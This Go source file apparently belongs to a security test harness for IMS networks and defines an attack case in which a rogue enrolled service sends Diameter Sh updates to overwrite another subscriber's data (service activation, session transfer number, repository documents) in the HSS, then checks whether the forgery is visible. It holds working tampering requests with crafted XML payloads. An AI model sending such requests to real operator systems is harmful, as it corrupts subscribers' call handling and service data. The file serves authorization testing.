package attack

import (
	"context"
	"fmt"
	"time"

	"imsafe/proto/diameter"
	"imsafe/secure"
)

// shWrite: an enrolled service changes data of users that are not its own.
func shWrite() Attack {
	return Attack{
		ID: "is.sh.write", Number: "IS-06", Title: "a service changes data of other users and other services",
		Text:     "call forwarding, greetings and whatever else services keep with the HSS would be anybody's who runs a service",
		Services: []Service{Integrity}, Stride: Tampering, Threats: []Threat{Corruption}, Module: ServicesManagement,
		Source: "TS 29.328 7.6", Access: []Access{Sh},
		Bounds:   Bounds{Packets: 60, Bytes: 100_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{{Position: EnrolledPlatform, Run: writeOthers, Controls: []secure.ControlID{secure.ISIntegrityShWrite}}},
	}
}

// writeOthers writes data of alice, whose service is another one: documents, an activation, a session transfer number. The service to which
// she belongs looks at them.
func writeOthers(ctx context.Context, f *Field, o *Outcome) error {
	line, err := f.service(ctx, f.attacker, Rogue)
	if err != nil {
		return err
	}
	defer func() { _ = line.conn.Close() }()
	own := line.update(f.Users[Bob].IMPU, refRepository, document(Rogue))
	answers, err := line.ask(&own)
	if err != nil {
		return err
	}
	if answers[0].result != uint32(diameter.ResultSuccess) {
		return fmt.Errorf("attack: the service may not write data of its own user: %d", answers[0].result)
	}
	o.Arrived("a document of its own user is taken")

	alice := f.Users[Alice].IMPU
	const activation = `<Sh-IMS-Data><Extension><Extension><DSAI><DSAI-Tag>mail</DSAI-Tag><DSAI-Value>1</DSAI-Value></DSAI></Extension></Extension></Sh-IMS-Data>`
	const transfer = `<Sh-IMS-Data><Extension><Extension><Extension><Extension><STN-SR>15559999</STN-SR></Extension></Extension></Extension></Extension></Sh-IMS-Data>`
	foreign := line.update(f.Users[Bob].IMPU, refRepository, document("greeting")) // of its own user, and of another service
	toRead := line.update(f.Users[Bob].IMPU, refRepository, document(Diary))       // of its own user, which it may read
	writers := []diameter.Writer{foreign, toRead, line.update(alice, refDSAI, activation), line.update(alice, refSTNSR, transfer), line.update(alice, refRepository, document("greeting")), line.update(alice, refRepository, document(Rogue))}
	for i := range 16 {
		writers = append(writers, line.update(alice, refRepository, document(fmt.Sprintf("document-%d", i))))
	}
	var requests []*diameter.Writer
	for i := range writers {
		requests = append(requests, &writers[i])
	}
	if answers, err = line.ask(requests...); err != nil {
		return err
	}
	taken := 0
	for _, a := range answers {
		if a.result == uint32(diameter.ResultSuccess) {
			taken++
		}
	}
	o.Wire(taken > 0, "%d writes to alice's data, and to what another service has of bob, are answered %s", len(answers), answered(answers))

	honest, err := f.service(ctx, f.honest, Archive)
	if err != nil {
		return err
	}
	defer func() { _ = honest.conn.Close() }()
	look := honest.pull(alice, refRepository)
	seen, err := honest.ask(&look)
	if err != nil {
		return err
	}
	forged := seen[0].data != ""
	if forged {
		o.Users = 1
	}
	o.Peer(forged, "her own service reads her greeting: answer %d, document %q", seen[0].result, between(seen[0].data, "ServiceData"))
	return nil
}

// document is a set of transparent data that is new.
func document(name string) string {
	return `<RepositoryData><ServiceIndication>` + name + `</ServiceIndication><SequenceNumber>0</SequenceNumber><ServiceData><forged/></ServiceData></RepositoryData>`
}
